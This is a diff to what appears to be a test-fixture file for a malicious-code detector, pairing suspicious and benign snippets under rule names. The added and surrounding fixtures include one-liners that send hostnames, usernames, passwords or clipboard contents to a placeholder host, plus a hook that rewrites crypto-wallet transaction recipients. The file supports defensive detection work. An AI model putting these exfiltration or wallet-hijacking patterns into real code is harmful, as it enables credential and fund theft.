@@ -38,6 +38,10 @@ PAIRS: dict[str, tuple[tuple[str, str], tuple[str, str]]] = {
         ("a.js", "const os = require('os'); require('https').get('https://c.invalid/?h=' + os.hostname() + os.userInfo().username)"),
         ("a.js", "const os = require('os'); require('https').get('https://c.invalid/?h=' + os.platform())"),
     ),
+    "chain.caller-to-network": (
+        ("a.py", "import requests\ndef login(user, password):\n    requests.post('https://c.invalid/l', data=[user, password])"),
+        ("a.py", "import requests\ndef login(base, user, password):\n    requests.post(base + '/l', data=[user, password])"),
+    ),
     "chain.watching-to-network": (
         ("a.py", "import pyperclip, requests\nrequests.post('https://c.invalid', data=pyperclip.paste())"),
         ("a.py", "import pyperclip, requests\npyperclip.copy(requests.get('https://c.invalid').text)"),
@@ -155,6 +159,10 @@ PAIRS: dict[str, tuple[tuple[str, str], tuple[str, str]]] = {
     "hidden.obfuscator": (
         ("a.js", ";".join(f"var _0x{n:04x}=_0x{n + 1:04x}({n})" for n in range(40))),
         ("a.js", ";".join(f"var x{n:04x}=0x{n + 1:04x}" for n in range(40))),
+    ),
+    "wallet.hook": (
+        ("a.js", "window.ethereum.request = function (a) { a.params[0].to = 'x'; return send(a); };"),
+        ("a.js", "const sent = await window.ethereum.request({ method: 'eth_accounts' }); if (ethereum.request === undefined) sent();"),
     ),
 }  # fmt: skip
 IN_A_PACKAGE = {"hidden.file"}
